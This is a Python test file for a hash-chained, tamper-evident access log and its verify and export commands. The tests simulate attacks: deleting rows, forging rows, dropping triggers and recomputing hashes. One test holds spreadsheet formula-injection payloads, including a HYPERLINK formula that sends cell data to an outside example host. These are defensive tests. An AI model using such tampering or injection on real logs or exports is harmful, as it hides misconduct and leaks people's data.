"""The access log holds against the attacks of issue 21 (findings 2, 3, 4 and 8).

Each test reproduces what an attacker (or an accident) did to the log and checks that
``vru access-log verify`` now finds it, with one line and a non-zero exit, and changes
nothing it checks.
"""

from __future__ import annotations

import hashlib
import io
import json
import sqlite3
import stat
from pathlib import Path

import pytest
from typer.testing import CliRunner

from serving.access_log import (
    FIELDS,
    AccessLog,
    Entry,
    LogError,
    anchor_path_for,
    export_csv,
    key_path_for,
    read_rows,
    verify_file,
)
from vru.cli import app

ROWS = 8


def _entry(i: int, purpose: str = "preparing for the referral panel") -> Entry:
    return Entry(
        "explain", "allowed", "pat", "practitioner", "Bristol", person_id=f"P{i:05d}",
        purpose=purpose, outcome="victim", model_version="1",
    )  # fmt: skip


@pytest.fixture
def log(tmp_path: Path) -> Path:
    """A log of ROWS rows (one of them feedback), anchored when its service started."""
    path = tmp_path / "serving" / "access-log.sqlite"
    writer = AccessLog(path)
    writer.anchor("service start")
    for i in range(ROWS - 1):
        writer.record(_entry(i))
    writer.record_feedback(
        Entry("feedback", "allowed", "pat", "practitioner", "Bristol", person_id="P00001",
              outcome="victim", model_version="1", detail="agrees=false; out of date"),
        agrees=False, reason_code="information out of date", text="moved school",
    )  # fmt: skip
    writer.anchor("panel run")
    writer.close()
    return path


def _verify(path: Path, **env: str) -> tuple[int, str]:
    result = CliRunner().invoke(
        app, ["access-log", "verify"], env={"VRU_ACCESS_LOG_PATH": str(path), **env}
    )
    return result.exit_code, result.output


def _fingerprint(folder: Path) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.iterdir())}


def _without_triggers(path: Path) -> sqlite3.Connection:
    con = sqlite3.connect(path)
    for name in ("access_log_no_update", "access_log_no_delete", "feedback_no_update",
                 "feedback_no_delete"):  # fmt: skip
        con.execute(f"DROP TRIGGER IF EXISTS {name}")
    return con


def test_an_intact_log_verifies_against_its_anchor_and_nothing_changes(log: Path) -> None:
    before = _fingerprint(log.parent)
    code, output = _verify(log)
    assert code == 0, output
    assert f"access log intact: {ROWS} rows" in output
    assert "matches the anchor of" in output
    assert f"({ROWS} rows)" in output
    # read-only: not a byte of the log, its key or its anchors changed, no file appeared
    assert _fingerprint(log.parent) == before


@pytest.mark.parametrize("wipe", ["drop table", "empty file", "junk file"])
def test_a_wiped_or_foreign_file_is_refused_in_one_line_and_left_as_it_was(
    log: Path, wipe: str
) -> None:
    if wipe == "drop table":
        with _without_triggers(log) as con:
            con.execute("DROP TABLE access_log")
        con.close()
    elif wipe == "empty file":
        for side in ("-wal", "-shm"):
            log.with_name(log.name + side).unlink(missing_ok=True)
        log.write_bytes(b"")
    else:
        for side in ("-wal", "-shm"):
            log.with_name(log.name + side).unlink(missing_ok=True)
        log.write_bytes(b"this is not a database, it is a shopping list\n" * 50)
    before = _fingerprint(log.parent)
    code, output = _verify(log)
    assert code == 2, output
    assert output.startswith("error:"), output
    assert len(output.strip().splitlines()) == 1, output
    assert "Traceback" not in output
    assert _fingerprint(log.parent) == before, "verify must not repair or create anything"


def test_a_rewritten_middle_row_with_every_later_hash_recomputed_is_found(log: Path) -> None:
    """Finding 3: the attacker recomputes the chain as it was built before (plain SHA-256);
    without the key no recomputation holds."""
    with _without_triggers(log) as con:
        cursor = con.execute("SELECT * FROM access_log ORDER BY id")
        names = [d[0] for d in cursor.description]
        rows = [dict(zip(names, r, strict=True)) for r in cursor.fetchall()]
        prev = rows[2]["prev_hash"]
        for row in rows[2:]:
            if row["id"] == 3:
                row["purpose"] = "nothing to see"
            body = json.dumps([row[f] for f in FIELDS], ensure_ascii=False, separators=(",", ":"))
            digest = hashlib.sha256((prev + body).encode()).hexdigest()
            con.execute(
                "UPDATE access_log SET purpose = ?, prev_hash = ?, hash = ? WHERE id = ?",
                (row["purpose"], prev, digest, row["id"]),
            )
            prev = digest
    con.close()
    code, output = _verify(log)
    assert code == 1
    assert "broken at row 3" in output
    assert "keyed hash" in output


def test_deleting_the_newest_rows_is_found_by_the_anchor(log: Path) -> None:
    with _without_triggers(log) as con:
        con.execute("DELETE FROM feedback")
        con.execute("DELETE FROM access_log WHERE id > 5")
    con.close()
    code, output = _verify(log)
    assert code == 1
    assert f"{ROWS} rows were anchored" in output
    assert "has 5" in output


def test_an_emptied_log_is_refused_where_rows_were_anchored(log: Path) -> None:
    with _without_triggers(log) as con:
        con.execute("DELETE FROM feedback")
        con.execute("DELETE FROM access_log")
    con.close()
    code, output = _verify(log)
    assert code == 1
    assert "has 0 (rows removed)" in output


def test_a_forged_row_appended_with_a_plain_hash_is_found(log: Path) -> None:
    with sqlite3.connect(log) as con:
        last_id, last_hash = con.execute(
            "SELECT id, hash FROM access_log ORDER BY id DESC LIMIT 1"
        ).fetchone()
        values = dict.fromkeys(FIELDS) | {
            "id": last_id + 1, "time": "2026-12-02T10:00:00+00:00", "action": "explain",
            "decision": "allowed", "user": "someone else", "role": "practitioner", "la": "Bristol",
        }  # fmt: skip
        body = json.dumps([values[f] for f in FIELDS], ensure_ascii=False, separators=(",", ":"))
        digest = hashlib.sha256((last_hash + body).encode()).hexdigest()
        columns = [*FIELDS, "prev_hash", "hash"]
        marks = ", ".join("?" * len(columns))
        con.execute(
            f"INSERT INTO access_log ({', '.join(columns)}) VALUES ({marks})",
            [*(values[f] for f in FIELDS), last_hash, digest],
        )
    con.close()
    code, output = _verify(log)
    assert code == 1
    assert f"broken at row {ROWS + 1}" in output


def test_edited_feedback_is_found(log: Path) -> None:
    with sqlite3.connect(log) as con, pytest.raises(sqlite3.DatabaseError, match="append-only"):
        con.execute("UPDATE feedback SET text = 'agrees after all'")
    con.close()
    with _without_triggers(log) as con:
        con.execute("UPDATE feedback SET agrees = 1, text = 'agrees after all'")
    con.close()
    code, output = _verify(log)
    assert code == 1
    assert "feedback 1 does not match" in output


def test_without_its_key_the_log_cannot_be_checked_or_continued(log: Path) -> None:
    key_path_for(log).unlink()
    with pytest.raises(LogError, match="no access-log key"):
        verify_file(log)
    with pytest.raises(LogError, match="has no key"):
        AccessLog(log)


def test_the_log_its_key_and_its_anchors_are_private_whatever_the_umask(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import os

    old = os.umask(0o022)
    try:
        path = tmp_path / "fresh" / "access-log.sqlite"
        writer = AccessLog(path)
        writer.record(_entry(1))
        sides = [path.with_name(path.name + "-wal"), path.with_name(path.name + "-shm")]
        files = [path, key_path_for(path), anchor_path_for(path), *sides]
        for f in files:
            assert f.exists(), f
            assert stat.S_IMODE(f.stat().st_mode) == 0o600, f
        assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
        writer.close()
    finally:
        os.umask(old)


def test_export_makes_formulas_inert(log: Path, tmp_path: Path) -> None:
    """Finding 8: a purpose a spreadsheet would run is written with a leading apostrophe."""
    writer = AccessLog(log)
    attacks = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)"]
    for i, purpose in enumerate(attacks):
        writer.record(_entry(100 + i, purpose=purpose))
    writer.close()
    out = io.StringIO()
    export_csv(log, out)
    text = out.getvalue()
    for purpose in attacks:
        assert "'" + purpose.replace('"', '""') in text
    assert not any(line.split(",")[8].startswith(("=", "+", "@")) for line in text.splitlines())
    # the stored rows themselves are unchanged (the chain still verifies)
    assert [r["purpose"] for r in read_rows(log)][-4:] == attacks
    assert verify_file(log).rows == ROWS + len(attacks)
    written = tmp_path / "export" / "rows.csv"
    result = CliRunner().invoke(
        app,
        ["access-log", "export", "--since", "2020-01-01", "--out", str(written)],
        env={"VRU_ACCESS_LOG_PATH": str(log)},
    )
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(written.stat().st_mode) == 0o600


def test_concurrent_writers_share_commits_and_the_chain_holds(tmp_path: Path) -> None:
    """Issue 21, finding 5: each row was its own transaction and sync to disk. Entries that
    arrive while a transaction is being written go into the next one together."""
    from concurrent.futures import ThreadPoolExecutor

    writer = AccessLog(tmp_path / "log.sqlite")
    n = 400
    with ThreadPoolExecutor(max_workers=16) as pool:
        ids = list(pool.map(lambda i: writer.record(_entry(i)), range(n)))
    assert sorted(ids) == list(range(1, n + 1))
    assert writer.commits < n  # some transactions carried more than one entry
    writer.close()
    assert verify_file(tmp_path / "log.sqlite").rows == n


def test_a_log_held_by_another_process_is_busy_not_an_error_and_nothing_is_half_written(
    tmp_path: Path,
) -> None:
    """A second process holding the write lock made requests wait 10 s and one /feedback
    fail with 'database is locked' (a 500). Now the write gives up after BUSY_SECONDS with
    :class:`LogBusyError` (the service answers 503 with Retry-After), and the chain holds."""
    from serving.access_log import BUSY_SECONDS, LogBusyError

    path = tmp_path / "log.sqlite"
    writer = AccessLog(path)
    writer.record(_entry(1))
    other = sqlite3.connect(path, isolation_level=None)
    other.execute("BEGIN IMMEDIATE")
    import time

    began = time.monotonic()
    with pytest.raises(LogBusyError, match="busy"):
        writer.record_feedback(
            _entry(2), agrees=True, reason_code="information out of date", text="x"
        )
    assert time.monotonic() - began < BUSY_SECONDS + 3
    other.execute("ROLLBACK")
    other.close()
    assert writer.record(_entry(3)) == 2
    writer.close()
    assert verify_file(path).rows == 2
    assert read_rows(path, "feedback") == []
